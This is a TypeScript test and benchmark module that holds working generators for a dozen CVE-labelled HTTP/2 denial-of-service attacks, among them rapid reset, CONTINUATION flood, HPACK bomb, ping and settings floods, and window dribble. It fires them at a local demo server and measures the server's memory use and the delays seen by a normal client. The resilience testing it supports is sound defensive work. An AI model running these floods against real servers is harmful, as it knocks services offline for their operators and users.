/**
 * The HTTP/2 attack families of issue 22, run against a demo server in a child process (so
 * that its RSS is its own): one hostile connection writes one family's frames as fast as the
 * server takes them (bounded in frames and seconds), while the server's RSS is sampled every
 * 200 ms and a well-behaved node:http2 client keeps fetching /crt and records how long it waited.
 * Used by test/h2-attacks.test.ts (assertions) and bench/attacks.ts (the table).
 *
 * The attacker is not RawH2Client: it does not record the frames it receives (200 000 frames
 * would be the test process's memory, not the server's), it writes frames in large batches,
 * and it can stop reading altogether (`socket.pause()`), so that what the server writes backs up.
 */
import http2 from 'node:http2'
import tls from 'node:tls'
import { readFileSync } from 'node:fs'
import { setImmediate as yieldLoop, setTimeout as sleep } from 'node:timers/promises'
import { frame, frames, headerBlock, FRAME, SETTING, ERROR, ERROR_NAMES, END_HEADERS, END_STREAM } from './raw-h2.js'
import { spawnDemo } from './demo.js'
import type { ChildServer } from './server.js'
import type { Transport } from '../../index.js'

export { SETTING }

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')
const ACK = 0x1
/** The largest frame payload a peer must accept before SETTINGS_MAX_FRAME_SIZE says otherwise. */
const MAX_PAYLOAD = 16_384

/** One received frame, as far as an attacker looks at it. */
export interface SeenFrame {
  type: number
  flags: number
  streamId: number
  length: number
}

/** What a family needs while it runs. */
export interface AttackState {
  /** Frames the server sent so far (all types), and DATA payload bytes. */
  received: number
  dataBytes: number
}

export interface Family {
  /** Short name, the table's first column. */
  readonly name: string
  readonly cve: string
  /** `false`: the attacker stops reading once connected (the server's writes back up). */
  readonly reads: boolean
  /** The attacker's SETTINGS after the preface (default: ENABLE_PUSH 0). */
  readonly settings?: Readonly<Record<number, number>>
  /** A fresh generator of the attack's frames; `next()` returns undefined when it must wait for the server. */
  start(): FamilyRun
}

export interface FamilyRun {
  next(state: AttackState): Buffer | undefined
  /** Each frame the server sends (reading families only). */
  onFrame?(f: SeenFrame, payload: Buffer): void
}

const request = (path = '/crt', extra: ReadonlyArray<readonly [string, string]> = []): Buffer =>
  headerBlock([[':method', 'GET'], [':scheme', 'https'], [':authority', 'localhost'], [':path', path], ...extra])

function hpackLength(length: number, firstByte: number, prefixBits: number): Buffer {
  const max = (1 << prefixBits) - 1
  if (length < max) return Buffer.from([firstByte | length])
  const out = [firstByte | max]
  let rest = length - max
  while (rest >= 128) {
    out.push((rest % 128) + 128)
    rest = Math.floor(rest / 128)
  }
  out.push(rest)
  return Buffer.from(out)
}

/** A header block split into HEADERS + CONTINUATIONs of at most 16 KB each (END_HEADERS on the last). */
function splitBlock(streamId: number, block: Buffer, endStream: boolean): Buffer[] {
  const out: Buffer[] = []
  for (let at = 0; at < block.length || at === 0; at += MAX_PAYLOAD) {
    const last = at + MAX_PAYLOAD >= block.length
    const flags = (last ? END_HEADERS : 0) | (at === 0 && endStream ? END_STREAM : 0)
    out.push(frame(at === 0 ? FRAME.HEADERS : FRAME.CONTINUATION, flags, streamId, block.subarray(at, at + MAX_PAYLOAD)))
  }
  return out
}

/** Frames of a request repeated on new streams (1, 3, 5, ...), one frame at a time. */
function repeatedRequests(build: (id: number, n: number) => Buffer[]): FamilyRun {
  let id = 1
  let n = 0
  let queue: Buffer[] = []
  return {
    next() {
      if (queue.length === 0) {
        queue = build(id, n++)
        id += 2
      }
      return queue.shift()
    },
  }
}

/** A 8-byte PING payload counter. */
function pingPayload(n: number): Buffer {
  const payload = Buffer.alloc(8)
  payload.writeUInt32BE(n >>> 0, 4)
  return payload
}

/** Every family of issue 22, section 2. */
export const FAMILIES: readonly Family[] = [
  {
    name: 'rapid-reset',
    cve: 'CVE-2023-44487',
    reads: true,
    // HEADERS (GET /crt, END_STREAM) then RST_STREAM(CANCEL) on the same stream, on ever new streams.
    start: () => repeatedRequests((id) => [frame(FRAME.HEADERS, END_HEADERS | END_STREAM, id, request()), frames.rstStream(id, ERROR.CANCEL)]),
  },
  {
    name: 'continuation-flood',
    cve: 'CVE-2024-27316',
    reads: true,
    // HEADERS without END_HEADERS, then CONTINUATIONs of 4 KB header fields, never END_HEADERS.
    start: () => {
      const field = Buffer.concat([Buffer.from([0x00]), hpackLength(3, 0, 7), Buffer.from('x-c'), hpackLength(4000, 0, 7), Buffer.alloc(4000, 'c')])
      let first = true
      return {
        next: () => {
          if (first) {
            first = false
            return frame(FRAME.HEADERS, END_STREAM, 1, request())
          }
          return frame(FRAME.CONTINUATION, 0, 1, field)
        },
      }
    },
  },
  {
    name: 'ping-flood',
    cve: 'CVE-2019-9512',
    reads: false,
    start: () => {
      let n = 0
      return { next: () => frame(FRAME.PING, 0, 0, pingPayload(++n)) }
    },
  },
  {
    name: 'settings-flood',
    cve: 'CVE-2019-9515',
    reads: false,
    // SETTINGS with one entry that changes nothing (the default window), each one to be acknowledged.
    start: () => ({ next: () => frames.settings({ [SETTING.INITIAL_WINDOW_SIZE]: 65_535 }) }),
  },
  {
    name: 'reset-provoking',
    cve: 'CVE-2019-9514',
    reads: false,
    // Per new stream: a request the server must refuse (a connection-specific `connection` field,
    // RFC 9113 §8.2.2: a stream error PROTOCOL_ERROR; nghttp2 answers RST_STREAM), then a DATA frame
    // on the stream before it, which has ended by then (RFC 9113 §5.1: STREAM_CLOSED; spdy answers
    // RST_STREAM, nghttp2 ignores DATA on a stream it reset). The attacker reads none of the answers.
    start: () =>
      repeatedRequests((id) => [
        frame(FRAME.HEADERS, END_HEADERS | END_STREAM, id, request('/crt', [['connection', 'keep-alive']])),
        ...(id > 1 ? [frame(FRAME.DATA, 0, id - 2, Buffer.from('x'))] : []),
      ]),
  },
  {
    name: 'empty-data',
    cve: 'CVE-2019-9518',
    reads: true,
    // One request without END_STREAM, then DATA frames with no payload and no END_STREAM.
    start: () => {
      let first = true
      return {
        next: () => {
          if (first) {
            first = false
            return frame(
              FRAME.HEADERS,
              END_HEADERS,
              1,
              headerBlock([
                [':method', 'POST'],
                [':scheme', 'https'],
                [':authority', 'localhost'],
                [':path', '/crt'],
              ]),
            )
          }
          return frame(FRAME.DATA, 0, 1)
        },
      }
    },
  },
  {
    name: 'empty-continuation',
    cve: 'CVE-2019-9518',
    reads: true,
    // HEADERS without END_HEADERS, then CONTINUATIONs with no payload and no END_HEADERS.
    start: () => {
      let first = true
      return {
        next: () => {
          if (first) {
            first = false
            return frame(FRAME.HEADERS, END_STREAM, 1, request())
          }
          return frame(FRAME.CONTINUATION, 0, 1)
        },
      }
    },
  },
  {
    name: 'hpack-bomb',
    cve: 'CVE-2016-6581',
    reads: true,
    // The first request puts a 4 000-byte field in the dynamic table (literal with incremental
    // indexing: 4 038 of the 4 096 bytes of table); every request then references it (one byte,
    // index 62) as often as one 16 KB HEADERS frame holds: 64 MB of header fields per frame.
    start: () =>
      repeatedRequests((id, n) => {
        const entry =
          n === 0
            ? Buffer.concat([Buffer.from([0x40]), hpackLength(6, 0, 7), Buffer.from('x-bomb'), hpackLength(4000, 0, 7), Buffer.alloc(4000, 'b')])
            : Buffer.alloc(0)
        const head = Buffer.concat([request(), entry])
        return [frame(FRAME.HEADERS, END_HEADERS | END_STREAM, id, Buffer.concat([head, Buffer.alloc(MAX_PAYLOAD - head.length, 0x80 | 62)]))]
      }),
  },
  {
    name: '100k-headers',
    cve: 'CVE-2019-9516',
    reads: true,
    // Requests of 100 000 header fields (`a:` empty, a 4-byte literal each): HEADERS + 24 CONTINUATIONs, repeated.
    start: () => {
      const fields = Buffer.concat(Array.from({ length: 100_000 }, () => Buffer.from([0x00, 0x01, 0x61, 0x00])))
      return repeatedRequests((id) => splitBlock(id, Buffer.concat([request(), fields]), true))
    },
  },
  {
    name: '1mb-cookie',
    cve: 'CVE-2019-9516',
    reads: true,
    // Requests with one 1 MB `cookie` field: HEADERS + 64 CONTINUATIONs, repeated.
    start: () => {
      const cookie = Buffer.concat([Buffer.from([0x00]), hpackLength(6, 0, 7), Buffer.from('cookie'), hpackLength(1 << 20, 0, 7), Buffer.alloc(1 << 20, 'k')])
      return repeatedRequests((id) => splitBlock(id, Buffer.concat([request(), cookie]), true))
    },
  },
  {
    name: 'priority-flood',
    cve: 'CVE-2019-9513',
    reads: true,
    // PRIORITY on idle streams 3, 5, 7, ..., each depending on the one before (a chain of idle streams).
    start: () => {
      let id = 1
      return {
        next: () => {
          id += 2
          const payload = Buffer.alloc(5)
          payload.writeUInt32BE(id - 2)
          payload[4] = 255
          return frame(FRAME.PRIORITY, 0, id, payload)
        },
      }
    },
  },
  {
    name: 'window-dribble',
    cve: 'CVE-2019-9511',
    reads: true,
    // SETTINGS_INITIAL_WINDOW_SIZE 1; 100 streams (fewer than the server's MAX_CONCURRENT_STREAMS) request /crt; each DATA byte the server sends is
    // answered with a 1-byte WINDOW_UPDATE on its stream (and the connection window topped up), so
    // the server sends its bodies a byte a frame; a finished stream is replaced by a new request.
    settings: { [SETTING.ENABLE_PUSH]: 0, [SETTING.INITIAL_WINDOW_SIZE]: 1 },
    start: () => {
      const STREAMS = 100
      let nextId = 1
      let toOpen = STREAMS
      const hungry: number[] = []
      let connectionCredit = 0
      return {
        next: () => {
          if (connectionCredit >= 16_384) {
            const update = frames.windowUpdate(0, connectionCredit)
            connectionCredit = 0
            return update
          }
          if (toOpen > 0) {
            toOpen--
            const id = nextId
            nextId += 2
            return frame(FRAME.HEADERS, END_HEADERS | END_STREAM, id, request())
          }
          const id = hungry.shift()
          return id === undefined ? undefined : frames.windowUpdate(id, 1)
        },
        onFrame: (f) => {
          if (f.type === FRAME.DATA) {
            connectionCredit += f.length
            if (f.flags & END_STREAM) toOpen++
            else if (f.length > 0) hungry.push(f.streamId)
          } else if ((f.type === FRAME.HEADERS && f.flags & END_STREAM) || f.type === FRAME.RST_STREAM) toOpen++
        },
      }
    },
  },
]

export function family(name: string): Family {
  const found = FAMILIES.find((f) => f.name === name)
  if (!found) throw new Error(`no attack family ${name}`)
  return found
}

/** How an attack connection ended. */
export interface AttackOutcome {
  family: string
  transport: Transport
  /** Frames the attacker wrote (handed to its socket) until the connection ended, or until it gave up. */
  frames: number
  /** The server ended the connection (GOAWAY received, or the socket closed or reset). */
  ended: boolean
  /** 'GOAWAY ENHANCE_YOUR_CALM', 'close', 'reset', or 'not ended'. */
  how: string
  seconds: number
  /** The attacker was still waiting for its socket to drain when it gave up (the server stopped reading). */
  stalled: boolean
}

export interface AttackLimits {
  maxFrames: number
  maxSeconds: number
}

/** Runs one family on one new connection to `port`; never longer than `limits.maxSeconds` (plus the TLS handshake). */
export async function attack(port: number, fam: Family, transport: Transport, limits: AttackLimits): Promise<AttackOutcome> {
  const socket = tls.connect({ host: '127.0.0.1', port, rejectUnauthorized: false, ALPNProtocols: ['h2'], servername: 'localhost' })
  socket.setNoDelay(true)
  let start = 0
  let sent = 0
  /** When the server ended the connection, in frames written and ms since the attack began. */
  let end: { frames: number; ms: number; how: string } | undefined
  let wake: (() => void) | undefined
  const notify = (): void => {
    const w = wake
    wake = undefined
    w?.()
  }
  const ended = (how: string): void => {
    if (start > 0 && end === undefined) end = { frames: sent, ms: performance.now() - start, how }
    notify()
  }
  socket.on('error', (err: NodeJS.ErrnoException) => ended(err.code === 'ECONNRESET' || err.code === 'EPIPE' ? 'reset' : `error ${err.code}`))
  let closed = false
  const closing = new Promise<void>((resolve) =>
    socket.once('close', () => {
      closed = true
      ended('close')
      resolve()
    }),
  )
  try {
    await bounded(Promise.race([new Promise((resolve) => socket.once('secureConnect', resolve)), closing]), 10_000, `${fam.name}: the TLS handshake`)
  } catch (err) {
    socket.destroy()
    throw err
  }
  if (closed) throw new Error(`${fam.name}: the TLS connection failed`)
  if (socket.alpnProtocol !== 'h2') throw new Error(`ALPN chose ${String(socket.alpnProtocol)}, not h2`)

  const run = fam.start()
  const state: AttackState = { received: 0, dataBytes: 0 }
  if (fam.reads) {
    let buffer: Buffer = Buffer.alloc(0)
    socket.on('data', (chunk: Buffer) => {
      buffer = buffer.length === 0 ? chunk : Buffer.concat([buffer, chunk])
      let at = 0
      const acks: Buffer[] = []
      while (buffer.length - at >= 9) {
        const length = buffer.readUIntBE(at, 3)
        if (buffer.length - at < 9 + length) break
        const f: SeenFrame = { type: buffer[at + 3]!, flags: buffer[at + 4]!, streamId: buffer.readUInt32BE(at + 5) & 0x7fffffff, length }
        const payload = buffer.subarray(at + 9, at + 9 + length)
        at += 9 + length
        state.received++
        if (f.type === FRAME.DATA) state.dataBytes += length
        if (f.type === FRAME.GOAWAY && payload.length >= 8) {
          const code = payload.readUInt32BE(4)
          ended(`GOAWAY ${ERROR_NAMES[code] ?? code}`)
        }
        if (f.type === FRAME.SETTINGS && !(f.flags & ACK)) acks.push(frames.settingsAck())
        if (f.type === FRAME.PING && !(f.flags & ACK)) acks.push(frames.pingAck(Buffer.from(payload)))
        run.onFrame?.(f, payload)
      }
      buffer = at === buffer.length ? Buffer.alloc(0) : Buffer.from(buffer.subarray(at))
      if (acks.length > 0 && !socket.destroyed && end === undefined) socket.write(Buffer.concat(acks))
      notify()
    })
  }
  socket.on('drain', notify)
  /** Resolves on data, drain, close or error, or after `ms`. */
  const nudge = async (ms: number): Promise<void> => {
    let timer: NodeJS.Timeout | undefined
    await Promise.race([new Promise<void>((resolve) => (wake = resolve)), new Promise<void>((resolve) => (timer = setTimeout(resolve, Math.max(0, ms))))])
    clearTimeout(timer)
  }
  socket.write(Buffer.concat([PREFACE, frames.settings(fam.settings ?? { [SETTING.ENABLE_PUSH]: 0 })]))
  if (!fam.reads) socket.pause()

  start = performance.now()
  const deadline = start + limits.maxSeconds * 1000
  let stalled = false
  while (end === undefined && sent < limits.maxFrames && performance.now() < deadline) {
    if (socket.writableNeedDrain) {
      // The server is not reading as fast as the attacker writes: wait (the server may stop reading altogether).
      stalled = true
      await nudge(deadline - performance.now())
      continue
    }
    stalled = false
    const batch: Buffer[] = []
    let bytes = 0
    while (batch.length < 1000 && bytes < 64 * 1024 && sent + batch.length < limits.maxFrames) {
      const next = run.next(state)
      if (next === undefined) break
      batch.push(next)
      bytes += next.length
    }
    if (batch.length === 0) {
      // Nothing to send until the server sends something (window dribble).
      await nudge(50)
      continue
    }
    socket.write(Buffer.concat(batch))
    sent += batch.length
    await yieldLoop()
  }
  // The frame budget is spent: stop attacking, but give the server the rest of the time to end the
  // connection over what it has not read yet. A non-reading attacker notices a closed connection
  // only by writing: a harmless WINDOW_UPDATE (not counted) every 100 ms.
  while (end === undefined && performance.now() < deadline) {
    await nudge(Math.min(100, deadline - performance.now()))
    if (!fam.reads && end === undefined && socket.writableLength === 0) socket.write(frames.windowUpdate(0, 1))
  }
  const outcome: AttackOutcome = end
    ? { family: fam.name, transport, frames: end.frames, ended: true, how: end.how, seconds: end.ms / 1000, stalled: false }
    : { family: fam.name, transport, frames: sent, ended: false, how: 'not ended', seconds: (performance.now() - start) / 1000, stalled }
  socket.destroy()
  await closing
  return outcome
}

/** The server's resident set (VmRSS of /proc/<pid>/status), in bytes. */
export function rssOf(pid: number): number {
  const status = readFileSync(`/proc/${pid}/status`, 'utf8')
  const m = /VmRSS:\s+(\d+) kB/.exec(status)
  if (!m) throw new Error(`no VmRSS for ${pid}`)
  return Number(m[1]) * 1024
}

/** Samples a process's RSS every `everyMs`; `stop()` returns the peak. */
export function sampleRss(pid: number, everyMs = 200): { peak: () => number; stop: () => number } {
  let peak = rssOf(pid)
  const timer = setInterval(() => {
    try {
      peak = Math.max(peak, rssOf(pid))
    } catch {}
  }, everyMs)
  return {
    peak: () => peak,
    stop: () => {
      clearInterval(timer)
      try {
        peak = Math.max(peak, rssOf(pid))
      } catch {}
      return peak
    },
  }
}

/**
 * A well-behaved client: one node:http2 connection (opened before the attack) fetching /crt
 * every `everyMs`, one request at a time. `stop()` waits for the request in flight (at most
 * `graceMs`) and returns the longest wait, counting a request still unanswered by its age.
 */
export function probe(
  url: string,
  everyMs = 250,
): { stop: (graceMs?: number) => Promise<{ worstMs: number; served: number; failed: number }>; ready: Promise<void> } {
  let session: http2.ClientHttp2Session | undefined
  let stopped = false
  let worstMs = 0
  let served = 0
  let failed = 0
  let inFlight: { start: number; done: Promise<void> } | undefined
  const connect = (): http2.ClientHttp2Session => {
    const s = http2.connect(url, { rejectUnauthorized: false, settings: { enablePush: false } })
    s.on('error', () => {})
    return s
  }
  const get = (): Promise<void> => {
    if (!session || session.closed || session.destroyed) session = connect()
    const start = performance.now()
    const done = new Promise<void>((resolve) => {
      const req = session!.request({ ':path': '/crt' })
      let status = 0
      req.on('response', (h) => (status = Number(h[':status'])))
      req.on('error', () => {})
      req.resume()
      req.on('close', () => {
        worstMs = Math.max(worstMs, performance.now() - start)
        if (status === 200) served++
        else failed++
        resolve()
      })
    })
    inFlight = { start, done }
    return done
  }
  const ready = get()
  const loop = (async () => {
    await ready
    worstMs = 0 // the first request only warms the connection
    served = 0
    while (!stopped) {
      const started = performance.now()
      await get()
      if (stopped) break
      await sleep(Math.max(0, everyMs - (performance.now() - started)))
    }
  })()
  return {
    ready,
    async stop(graceMs = 2000) {
      stopped = true
      const pending = inFlight
      if (pending) {
        const timedOut = await Promise.race([pending.done.then(() => false), sleep(graceMs).then(() => true)])
        if (timedOut) {
          worstMs = Math.max(worstMs, performance.now() - pending.start)
          failed++
        }
      }
      session?.destroy()
      await Promise.race([loop, sleep(100)])
      return { worstMs: Math.round(worstMs), served, failed }
    },
  }
}

export interface Measured extends AttackOutcome {
  rssBeforeMB: number
  rssPeakMB: number
  rssAfterMB: number
  /** The other client's longest wait for /crt while the attack ran (ms), and its answers. */
  worstWaitMs: number
  served: number
  failed: number
}

const mb = (bytes: number): number => Math.round((bytes / 1048576) * 10) / 10

/**
 * One family against a running demo: RSS before (after `settleMs` at rest), the attack with
 * the other client fetching /crt meanwhile (for at least `minProbeMs`), RSS after `settleMs`.
 */
export async function measure(
  demo: ChildServer,
  fam: Family,
  transport: Transport,
  limits: AttackLimits,
  options: { settleMs?: number; minProbeMs?: number; probeGraceMs?: number } = {},
): Promise<Measured> {
  const pid = demo.child.pid!
  const port = Number(new URL(demo.url).port)
  const other = probe(demo.url)
  let sampler: ReturnType<typeof sampleRss> | undefined
  try {
    await bounded(other.ready, 10_000, 'the other client: no answer to its first /crt')
    await sleep(options.settleMs ?? 300)
    const rssBefore = rssOf(pid)
    sampler = sampleRss(pid)
    const started = performance.now()
    const outcome = await attack(port, fam, transport, limits)
    const probeLeft = (options.minProbeMs ?? 1000) - (performance.now() - started)
    if (probeLeft > 0) await sleep(probeLeft)
    const waited = await other.stop(options.probeGraceMs)
    await sleep(options.settleMs ?? 300)
    const peak = sampler.stop()
    const rssAfter = rssOf(pid)
    return {
      ...outcome,
      rssBeforeMB: mb(rssBefore),
      rssPeakMB: mb(peak),
      rssAfterMB: mb(rssAfter),
      worstWaitMs: waited.worstMs,
      served: waited.served,
      failed: waited.failed,
    }
  } finally {
    sampler?.stop()
    await other.stop(0)
  }
}

/** `promise`, or an error naming `what` after `ms`. */
async function bounded<T>(promise: Promise<T>, ms: number, what: string): Promise<T> {
  let timer: NodeJS.Timeout | undefined
  try {
    return await Promise.race([promise, new Promise<never>((_, reject) => (timer = setTimeout(() => reject(new Error(`${what} within ${ms} ms`)), ms)))])
  } finally {
    clearTimeout(timer)
  }
}

/** The demo as users run it (`routes/server.ts`, its request log on), on `transport`. */
export function spawnAttackedDemo(transport: Transport, env: Record<string, string> = {}): Promise<ChildServer> {
  return spawnDemo({ TRANSPORT: transport, ...env })
}

/** One line for a report: frames, seconds, how, RSS, the other client's wait. */
export function summary(m: Measured): string {
  const frames = m.ended ? `${m.frames} frames` : `not ended after ${m.frames} frames${m.stalled ? ' (the server stopped reading)' : ''}`
  return `${m.family} on ${m.transport}: ${frames}, ${m.seconds.toFixed(2)} s, ${m.how}; RSS ${m.rssBeforeMB} → ${m.rssPeakMB} → ${m.rssAfterMB} MB; the other client waited at most ${m.worstWaitMs} ms (${m.served} served, ${m.failed} failed)`
}
